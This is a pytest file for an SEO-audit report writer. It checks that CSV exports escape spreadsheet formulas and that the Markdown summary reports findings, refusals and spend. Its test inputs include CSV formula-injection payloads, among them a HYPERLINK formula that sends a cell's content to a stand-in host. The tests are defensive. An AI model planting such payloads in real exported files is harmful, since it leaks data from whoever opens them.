"""The report of an audit."""

import csv
import io

import pytest

from taskboard import cells
from taskboard.context import SettledItem
from taskboard.outcomes import Done
from taskboard.workflows.seo_audit import report
from taskboard.workflows.seo_audit.models import SiteChange
from tests.factories import make_task
from tests.seo_audit.steps import Ctx

DANGEROUS = [
    '=HYPERLINK("http://x.example/?"&A1)', "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", " =1", "\u00a0=1+1", "\uff1d1",
    "'quoted",
    "plain",
    "a;b,c\nd",
]  # fmt: skip


@pytest.mark.parametrize("text", DANGEROUS)
def test_no_cell_is_a_formula_and_each_reads_back(text: str) -> None:
    item = SettledItem(text, text, "failed", text, {})
    table = io.StringIO()
    csv.writer(table).writerow(report._row(item, {"title": text}))
    row = next(csv.reader(io.StringIO(table.getvalue(), newline="")))
    for cell in (row[0], row[6], row[8]):
        assert cell.lstrip()[0] not in "=+-@\uff1d"
        assert cells.plain(cell) == text


def settled(key: str, status: str, reason: str = "") -> SettledItem:
    told = {
        "findings": [{"code": "title.missing", "text": "Missing title"}],
        "impact": -5,
        "title": f"=T {key}",
    }
    return SettledItem(key, key, status, reason, {"diagnose": told, "create_ticket": {"ticket": "T-1"}})


@pytest.fixture
def written(db: None) -> dict[str, str]:
    task = make_task(limit_micro=20_000_000, spent_micro=1_250_000)
    SiteChange.objects.create(task=task, path="a.html", field="title", text="New | title", step="apply_fix")
    items = [
        settled("a.html", "done"),
        settled("b.html", "rejected", "Rejected by manager: no"),
        settled("+c", "failed"),
    ]
    done = report.write(Ctx(task, "_task", "report", settled=items))
    assert isinstance(done, Done)
    return {new.name: (new.content or b"").decode() for new in done.artifacts}


def test_the_table_opens_in_a_spreadsheet_and_reads_back(written: dict[str, str]) -> None:
    assert written["report.csv"].startswith("\ufeffpage,")
    rows = list(csv.DictReader(io.StringIO(written["report.csv"].removeprefix("\ufeff"))))
    assert [cells.plain(row["page"]) for row in rows] == ["a.html", "b.html", "+c"]
    assert (rows[0]["title"], rows[0]["impact"], rows[0]["new_title"]) == ("'=T a.html", "-5", "New | title")


def test_the_text_says_what_was_found_done_refused_and_spent(written: dict[str, str]) -> None:
    text = written["report.md"]
    for line in ("- Pages: 3", "- Tickets: 3", "- Missing title (high): 3", "- Spent: 1.25 USD of 20.00 USD"):
        assert line in text
    assert "- `a.html`: title → New \\| title" in text
    assert "## Refused by a person\n\n- `b.html`: Rejected by manager: no" in text
